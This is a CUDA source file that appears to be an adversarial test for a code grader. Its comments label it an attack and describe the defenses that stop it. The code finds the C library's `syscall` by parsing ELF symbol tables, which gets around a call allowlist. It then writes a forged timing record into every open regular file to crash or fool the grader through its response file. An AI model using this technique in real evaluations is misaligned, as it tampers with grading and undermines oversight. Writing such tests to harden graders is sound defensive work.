// ATTACK: write a made-up record straight into the runner's response file
// (found among the open descriptors with raw system calls): a timing record
// with a billion rounds, to crash the grader while it reads. Defended: lab
// functions run on a fenced thread that may not write to the response file
// (grader/runner/fence.cu), so the write is stopped; and a record that got
// there anyway would be bounds-checked, an error (exit 2), never a crash or
// a pass (tests/unit/test_response.c).
// EXPECT: which touches the grader's response file
#include <cuda_runtime.h>
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

/* A C library symbol found without the dynamic loader (dlsym is not on the
 * allowlist): from printf back to the library's ELF header, then through
 * its dynamic symbol table. Only allowlisted calls are used. */
static void *find_in_libc(const char *want)
{
    uintptr_t base = (uintptr_t)&printf & ~(uintptr_t)4095;
    while (memcmp((const void *)base, ELFMAG, SELFMAG) != 0) base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    const char *names = (const char *)strtab;
    for (const Elf64_Sym *s = (const Elf64_Sym *)symtab; (uintptr_t)s < strtab; s++)
        if (s->st_name && s->st_value && strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return NULL;
}

typedef long (*syscall_fn)(long, ...);

__global__ void add(const float *a, const float *b, float *c, int n, int wrong)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = wrong ? a[i] + b[i] + 1 : a[i] + b[i];
}

extern "C" cudaError_t vector_add(const float *d_a, const float *d_b, float *d_c, int n,
                                  cudaStream_t stream)
{
    syscall_fn sys = (syscall_fn)find_in_libc("syscall");
    int wrong = 0;
    /* A timing record (kind 3) claiming a billion rounds, appended to every
     * regular file the process has open: the response is one of them. */
    unsigned record[4] = {0x4c414231u, 3, 0, 0};
    int counts[4] = {1, 1 << 30, 1, 0};
    for (long fd = 3; sys && fd < 64; fd++) {
        struct { unsigned long dev, ino, nlink; unsigned mode; } st[8];
        if (sys(5 /* fstat */, fd, st) != 0 || (st[0].mode & 0170000) != 0100000) continue;
        sys(1 /* write */, fd, record, sizeof record);
        sys(1 /* write */, fd, counts, sizeof counts);
    }
    if (n > 0) add<<<(n + 255) / 256, 256, 0, stream>>>(d_a, d_b, d_c, n, wrong);
    return cudaGetLastError();
}
